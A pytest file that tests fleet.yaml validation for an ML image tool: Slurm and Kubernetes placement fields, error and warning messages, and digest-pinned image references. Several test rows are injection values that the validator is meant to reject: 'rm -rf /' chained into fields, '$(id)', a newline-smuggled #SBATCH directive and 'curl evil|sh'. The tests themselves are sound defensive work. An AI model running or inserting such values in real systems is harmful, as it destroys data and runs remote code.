"""fleet.yaml validation: parametrized (input, exact message) tables, the example, digest references."""

from __future__ import annotations

from pathlib import Path

import pytest

from imagesmith.errors import UserError, ValidationError
from imagesmith.model import fleet as config

ROOT = Path(__file__).resolve().parents[3]
SLURM = "classes:\n  a:\n    gpus: 0\n    slurm:\n      partition: p\n"
KUBE = "classes:\n  k:\n    gpus: 0\n    kubernetes:\n      namespace: ml\n"


def errors(text: str) -> list[str]:
    with pytest.raises(ValidationError) as exc:
        config.parse(text, Path("fleet.yaml"))
    return [str(p) for p in exc.value.problems if p.severity == "error"]


def test_the_example_is_valid_and_complete() -> None:
    fleet = config.load(ROOT / "examples" / "fleet.yaml")
    assert [c.name for c in fleet.classes] == ["h200", "gh200", "l40s"] and fleet.require == ("h200", "l40s")
    h200 = fleet.klass("h200")
    assert h200.scheduler == "slurm" and h200.gpus == 8 and h200.gpu == "NVIDIA H200"
    assert [str(c.platform) for c in fleet.classes] == ["linux/amd64", "linux/arm64", "linux/amd64"]
    assert h200.slurm == config.SlurmPlacement(
        partition="gpu-h200", account="ml-platform", qos="normal", constraint="h200&nvlink", gres_type="h200",
        time_limit_s=1800, start_deadline_s=7200, max_requeues=0, runtime="docker",
        imagesmith="/shared/imagesmith/.venv/bin/imagesmith", cpus_per_task=32, mem="256G")
    l40s = fleet.klass("l40s").kubernetes
    assert l40s == config.KubernetesPlacement(
        namespace="ml-verify", node_selector=(("nvidia.com/gpu.product", "NVIDIA-L40S"),),
        tolerations=(config.Toleration("nvidia.com/gpu", "Exists", None, "NoSchedule"),), image_pull_secret="harbor-robot",
        deadline_s=1800, ttl_s=3600, start_deadline_s=1200, cpu="8", memory="64Gi", shm_size="8Gi", context="prod-gpu")


def test_defaults() -> None:
    fleet = config.parse(SLURM, Path("fleet.yaml"))
    (a,) = fleet.classes
    assert fleet.require == ("a",) and fleet.tier == "quick" and a.tier is None
    assert a.slurm == config.SlurmPlacement(partition="p") and a.start_deadline_s == 3600 and a.run_limit_s == 1800


def test_podman_defaults_to_its_docker_socket() -> None:
    fleet = config.parse(SLURM + "      runtime: podman\n", Path("fleet.yaml"))
    assert fleet.classes[0].slurm.docker_host == "unix:///run/podman/podman.sock"  # type: ignore[union-attr]


ERRORS = [
    # grammar of what each value becomes: a hostile value never reaches sbatch or a Job
    (SLURM.replace("partition: p", "partition: 'gpu; rm -rf /'"),
     "fleet.yaml:5 classes.a.slurm.partition: 'gpu; rm -rf /' is not a Slurm partition name; write letters, digits, '.', '_' or '-' (at most 64)"),
    (SLURM + "      account: \"$(id)\"\n",
     "fleet.yaml:6 classes.a.slurm.account: '$(id)' is not a Slurm account name; write letters, digits, '.', '_' or '-' (at most 64)"),
    (SLURM + "      constraint: 'a&&b'\n",
     "fleet.yaml:6 classes.a.slurm.constraint: 'a&&b' is not a Slurm constraint; write node features joined by & or |, e.g. h200&nvlink"),
    (SLURM + "      constraint: \"h200\\n#SBATCH --uid=0\"\n",
     "fleet.yaml:6 classes.a.slurm.constraint: holds control character U+000A; remove it (escapes such as \\n or \\t are not allowed in values)"),
    (SLURM + "      time_limit: 3x\n",
     "fleet.yaml:6 classes.a.slurm.time_limit: '3x' is not a duration; write e.g. 90s, 30m, 1h30m or 2d"),
    (SLURM + "      start_deadline: 31d\n", "fleet.yaml:6 classes.a.slurm.start_deadline: 31d is out of range (1 s .. 30 d)"),
    (SLURM + "      runtime: singularity\n", "fleet.yaml:6 classes.a.slurm.runtime: 'singularity' is not one of docker, podman, pyxis"),
    (SLURM + "      imagesmith: bin/imagesmith\n",
     "fleet.yaml:6 classes.a.slurm.imagesmith: 'bin/imagesmith' is not an absolute path; write the imagesmith executable on the nodes, e.g. /shared/imagesmith/bin/imagesmith"),
    (SLURM + "      imagesmith: '/opt/x; curl evil|sh'\n",
     "fleet.yaml:6 classes.a.slurm.imagesmith: '/opt/x; curl evil|sh' is not an absolute path; write the imagesmith executable on the nodes, e.g. /shared/imagesmith/bin/imagesmith"),
    (SLURM + "      docker_host: 'http://x'\n",
     "fleet.yaml:6 classes.a.slurm.docker_host: 'http://x' is not an engine address; write unix:///run/podman/podman.sock, tcp://HOST:PORT or ssh://USER@HOST"),
    (SLURM + "      mem: 64GB\n", "fleet.yaml:6 classes.a.slurm.mem: '64GB' is not a Slurm memory size; write e.g. 64G or 512000M"),
    (SLURM + "      max_requeues: 11\n", "fleet.yaml:6 classes.a.slurm.max_requeues: 11 is out of range (0..10)"),
    (SLURM + "      partiton: q\n", "fleet.yaml:6 classes.a.slurm.partiton: unknown key; did you mean 'partition'?"),
    ("classes:\n  a:\n    gpus: 0\n    slurm: {account: x}\n",
     "fleet.yaml:4 classes.a.slurm: a Slurm class needs partition: the partition its jobs go to (sinfo lists them)"),
    (KUBE.replace("namespace: ml", "namespace: ML_Verify"),
     "fleet.yaml:5 classes.k.kubernetes.namespace: 'ML_Verify' is not a namespace name; write lowercase letters, digits and '-' (at most 63)"),
    (KUBE + "      node_selector: {'nvidia.com/gpu.product': NVIDIA H200}\n",
     "fleet.yaml:6 classes.k.kubernetes.node_selector.nvidia.com/gpu.product: 'NVIDIA H200' is not a label value; write at most 63 letters, digits, '-', '_' or '.' (e.g. NVIDIA-H200)"),
    (KUBE + "      node_selector: {'bad key!': x}\n",
     "fleet.yaml:6 classes.k.kubernetes.node_selector['bad key!']: 'bad key!' is not a Kubernetes label key; write e.g. nvidia.com/gpu.product"),
    (KUBE + "      tolerations: [{key: nvidia.com/gpu, operator: Exists, value: x}]\n",
     "fleet.yaml:6 classes.k.kubernetes.tolerations[0].value: operator Exists takes no value; drop value or write operator: Equal"),
    (KUBE + "      tolerations: [{key: gpu, effect: NoScheduel}]\n",
     "fleet.yaml:6 classes.k.kubernetes.tolerations[0].effect: 'NoScheduel' is not one of NoSchedule, PreferNoSchedule, NoExecute; did you mean 'NoSchedule'?"),
    (KUBE + "      tolerations: {key: gpu}\n",
     "fleet.yaml:6 classes.k.kubernetes.tolerations: expected a list of tolerations, e.g. [{key: nvidia.com/gpu, operator: Exists, effect: NoSchedule}]"),
    (KUBE + "      image_pull_secret: Harbor_Robot\n",
     "fleet.yaml:6 classes.k.kubernetes.image_pull_secret: 'Harbor_Robot' is not a Secret name; write the name of a kubernetes.io/dockerconfigjson Secret, e.g. harbor-robot"),
    (KUBE + "      memory: 64GB\n", "fleet.yaml:6 classes.k.kubernetes.memory: '64GB' is not a Kubernetes quantity; write e.g. 64Gi"),
    ("classes:\n  H200:\n    gpus: 0\n    slurm: {partition: p}\n",
     "fleet.yaml:2 classes.H200: class name 'H200' must be lowercase letters, digits and '-' (at most 31; it names jobs and folders)"),
    ("classes:\n  a:\n    gpus: 0\n    slurm: {partition: p}\n    kubernetes: {namespace: n}\n",
     "fleet.yaml:2 classes.a: a class runs on one scheduler; give exactly one of slurm: or kubernetes: (found slurm, kubernetes)"),
    ("classes:\n  a:\n    gpus: 0\n",
     "fleet.yaml:2 classes.a: a class runs on one scheduler; give exactly one of slurm: or kubernetes: (found none)"),
    ("classes:\n  a:\n    gpus: 0\n    gpu: NVIDIA A10\n    slurm: {partition: p}\n",
     "fleet.yaml:3 classes.a.gpus: gpus is 0 (CPU mode) but gpu names 'NVIDIA A10'; give the GPU count, or drop gpu for a CPU class"),
    ("classes:\n  a:\n    gpus: 65\n    slurm: {partition: p}\n", "fleet.yaml:3 classes.a.gpus: 65 is out of range (0..64)"),
    (SLURM + "floating: {require: [h100]}\n", "fleet.yaml:6 floating.require[0]: 'h100' is not a class here; classes: a"),
    (SLURM + "floating: {require: []}\n",
     "fleet.yaml:6 floating.require: is empty, so no class would gate a floating tag; list classes, or drop require to require every class"),
    (SLURM + "tier: fast\n", "fleet.yaml:6 tier: 'fast' is not one of quick, standard, soak"),
    ("version: 2\n" + SLURM, "fleet.yaml:1 version: fleet schema version 2 is not supported; this imagesmith reads version 1"),
    ("tier: quick\n", "fleet.yaml:1: no classes: name at least one GPU class with its slurm: or kubernetes: placement"),
    ("classes: [a, b]\n", "fleet.yaml:1 classes: expected a mapping, got a list"),
    ("classes:\n  a: [\n", "fleet.yaml:3:1: invalid YAML: did not find expected node content"),
]


@pytest.mark.parametrize("text, message", ERRORS)
def test_errors_say_where_why_and_what_to_write(text: str, message: str) -> None:
    assert message in errors(text)


WARNINGS = [
    ("classes:\n  a:\n    gpus: 1\n    slurm: {partition: p}\n",
     "fleet.yaml:2 classes.a: warning: gpu: is not set, so the job's GPUs are not checked against the class; write the model torch reports, e.g. gpu: NVIDIA H200"),
    ("classes:\n  a:\n    gpus: 1\n    gpu: NVIDIA A10\n    slurm: {partition: p}\n",
     "fleet.yaml:4 classes.a.gpu: warning: verify/baselines.json has no baseline for 'NVIDIA A10', so throughput is not judged against one; it has NVIDIA H200"),
]


@pytest.mark.parametrize("text, message", WARNINGS)
def test_warnings(text: str, message: str) -> None:
    assert [str(w) for w in config.parse(text, Path("fleet.yaml")).warnings] == [message]


DIGEST = "sha256:" + "ab" * 32


@pytest.mark.parametrize("text, name", [
    (f"127.0.0.1:5000/ml/pytorch@{DIGEST}", "127.0.0.1:5000/ml/pytorch"),
    (f"harbor.example.com/ml-platform/pytorch-cuda@{DIGEST}", "harbor.example.com/ml-platform/pytorch-cuda"),
    (f"pytorch@{DIGEST}", "pytorch"),
])
def test_digest_references(text: str, name: str) -> None:
    ref = config.parse_ref(text)
    assert (ref.name, ref.tag, ref.sha256, str(ref)) == (name, None, DIGEST, text)


@pytest.mark.parametrize("text", [
    "harbor.example.com/ml/pytorch:v2.9",  # a tag moves: verify what will be published, by digest
    f"harbor.example.com/ml/pytorch@{DIGEST[:-2]}",
    f"harbor.example.com/ML/pytorch@{DIGEST}",
    f"harbor.example.com/ml/pytorch@{DIGEST}; rm -rf /",
    f"harbor.example.com/ml/pytorch@{DIGEST}\n",
    f"-rf/ml@{DIGEST}",
])
def test_references_not_pinned_by_digest_are_refused(text: str) -> None:
    with pytest.raises(UserError, match="is not an image pinned by digest; write REGISTRY/REPOSITORY@sha256:<64 hex digits>"):
        config.parse_ref(text)


@pytest.mark.parametrize("key, ok", [("nvidia.com/gpu.product", True), ("gpu", True), ("a/b/c", False), ("Nvidia.com/x", False),
                                     ("x" * 64, False), ("example.com/" + "x" * 63, True), ("/x", False)])
def test_label_keys(key: str, ok: bool) -> None:
    assert config.label_key_ok(key) is ok


def test_the_local_example_is_two_slurm_cpu_classes_on_the_test_cluster() -> None:
    fleet = config.load(ROOT / "examples" / "fleet-local.yaml")
    assert [(c.name, c.gpus, c.slurm.partition if c.slurm else None) for c in fleet.classes] == [("cpu-a", 0, "fleet-a"), ("cpu-b", 0, "fleet-b")]
    assert fleet.require == ("cpu-a", "cpu-b") and not fleet.warnings
    script = (ROOT / "scripts" / "local-slurm.sh").read_text()
    assert "PartitionName=fleet-a" in script and "PartitionName=fleet-b" in script and "Feature=cpu,fleet" in script
